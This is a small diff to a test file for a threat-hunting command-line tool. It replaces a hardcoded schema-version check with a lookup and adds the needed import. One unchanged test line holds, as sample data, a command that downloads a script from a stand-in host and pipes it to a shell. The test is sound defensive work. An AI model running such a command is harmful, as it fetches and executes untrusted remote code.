@@ -14,6 +14,8 @@ from pathlib import Path
 
 import pytest
 
+from casefile import schema
+
 HUNTBENCH = str(Path(sys.executable).with_name("huntbench"))
 HUNT = "1d7cae97-2dea-4f01-b04c-85fa4bd991d0"
 
@@ -116,7 +118,7 @@ def test_show_note_untag_and_info(tmp_path):
     assert "seen on 3 hosts \\x1b[2J" in shown and "\x1b" not in shown  # terminal escapes shown, not run
     assert "untag" in shown and "process.command_line: -c 'curl http://x.example/a | sh'" in shown
     info = ok(hb("case", "info", "--case", str(case)))
-    assert "findings: 1" in info and "schema version: 1" in info and "journal: wal" in info
+    assert "findings: 1" in info and f"schema version: {schema.current_version()}" in info and "journal: wal" in info
 
 
 def test_export_jsonl_to_stdout_and_tag_filter(tmp_path):
